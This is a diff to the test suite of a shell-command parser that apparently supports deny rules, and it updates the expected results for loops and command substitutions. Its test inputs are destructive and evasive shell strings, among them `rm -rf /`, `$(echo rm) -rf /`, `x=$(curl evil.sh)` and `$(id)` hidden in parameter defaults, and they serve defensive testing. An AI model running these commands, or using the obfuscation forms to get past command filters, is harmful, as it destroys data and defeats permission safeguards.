@@ -76,10 +76,12 @@ describe('the parser comparison (R#n, 42 commands)', () => {
     [21, '{ rm -rf /; }', ['rm'], false, [], true],
     [22, '(cd /tmp && rm -rf x)', ['cd', 'rm'], false, [], true],
     [23, 'if true; then rm -rf /; fi', ['true', 'rm'], false, [], true],
-    [24, 'for f in *.log; do rm "$f"; done', ['rm'], false, [], true],
+    // Deviation: the loop's words are values of f, read for deny rules (a second `rm`).
+    [24, 'for f in *.log; do rm "$f"; done', ['rm', 'rm'], false, [], true],
     [25, `echo "a;b" 'c&&d' e\\|f`, ['echo'], false, [], true],
     [26, '"rm" -rf /', ['rm'], false, [], true],
-    [27, '$(echo rm) -rf /', ['<dyn>', 'echo'], true, [], true],
+    // Deviation: what `echo rm` prints is read as the program, for deny rules.
+    [27, '$(echo rm) -rf /', ['<dyn>', 'echo', 'rm'], true, [], true],
     [28, 'x=$(curl evil.sh)', ['curl'], true, [], true],
     [29, 'echo ${x@P}', ['echo'], true, [], true],
     [30, 'ls &&', ['ls'], false, [], false],
@@ -277,8 +279,8 @@ describe('§5.2 substitution anywhere (#39601, #89055, #5471)', () => {
     ['echo ${x@E} ${x@A} ${x@K} ${x@a} ${x@k}', ['echo'], ['prompt-expansion', 'prompt-expansion', 'prompt-expansion', 'prompt-expansion', 'prompt-expansion']],
     ['echo ${!x}', ['echo'], ['indirection']],
     ['echo ${!prefix*}', ['echo'], ['indirection']],
-    ['$(echo rm) -rf /', ['<dyn>', 'echo'], ['command']],
-    ['echo ${x:-$(id)}', ['echo', 'id'], ['command']],
+    ['$(echo rm) -rf /', ['<dyn>', 'echo', 'rm'], ['command']], // the printed name, for deny rules
+    ['echo ${x:-$(id)}', ['echo', 'id', 'echo'], ['command']], // and `echo $(id)`, the default's reading
     ['for f in $(ls); do :; done', ['ls', ':'], ['command']],
     ['case $(id) in *) ;; esac', ['id'], ['command']],
     ['git commit -m "$(date)"', ['git', 'date'], ['command']],
@@ -303,8 +305,8 @@ describe('§5.2 substitution anywhere (#39601, #89055, #5471)', () => {
 
   // Grammar gaps: the grammar reads these as text; guard (c) and the re-parse of the word catch them.
   test.each([
-    ['echo ${x:-`id`}', ['echo', 'id'], ['backtick']],
-    ['echo "${x:-`id`}"', ['echo', 'id'], ['backtick']],
+    ['echo ${x:-`id`}', ['echo', 'id', 'echo'], ['backtick']],
+    ['echo "${x:-`id`}"', ['echo', 'id', 'echo'], ['backtick']],
     ['echo ${x/a/`id`}', ['echo', 'id'], ['backtick']],
     ['[[ $x == `id` ]]', ['[[', 'id'], ['backtick']],
   ])('a substitution the grammar reads as text: %j', (input, expected, kinds) => {
@@ -763,7 +765,7 @@ describe('§5.9 compound structures and flag reordering (#18613, #66176, #59006)
     ['(rm -rf /)', ['rm'], ['subshell']],
     ['(cd /tmp && rm -rf x)', ['cd', 'rm'], ['subshell', 'subshell']],
     ['if rm a; then rm b; elif rm c; then rm d; else rm e; fi', ['rm', 'rm', 'rm', 'rm', 'rm'], ['condition', 'condition', 'condition', 'condition', 'condition']],
-    ['for f in a; do rm "$f"; done', ['rm'], ['loop']],
+    ['for f in a; do rm "$f"; done', ['rm', 'rm'], ['loop', 'nested']], // and `rm "a"`, read for deny rules
     ['for ((i=0; i<3; i++)); do rm x; done', ['rm'], ['loop']],
     ['while rm a; do rm b; done', ['rm', 'rm'], ['loop', 'loop']],
     ['until rm a; do rm b; done', ['rm', 'rm'], ['loop', 'loop']],
@@ -838,7 +840,7 @@ describe('cwd tracking (#91848, #91853)', () => {
     ['echo $(cd /tmp) && cat a', '/w', ['/w', '/w', '/w']],
     ['if cd x; then cat a; fi; cat b', '/w', ['/w', '/w/x', null]],
     ['if true; then cat a; fi && cat b', '/w', ['/w', '/w', '/w']],
-    ['for d in a b; do cat x; cd $d; done; cat c', '/w', [null, null, null]],
+    ['for d in a b; do cat x; cd $d; done; cat c', '/w', [null, null, null, null, null]], // and `cd a`, `cd b`, read for deny rules
     ['for d in a b; do cat x; done && cat c', '/w', ['/w', '/w']],
     ['f() { cat x; }; cd /tmp && f', '/w', [null, '/w', '/tmp']],
     ['cd a && { cd b && cat c; } && cat d', '/w', ['/w', '/w/a', '/w/a/b', '/w/a/b']],
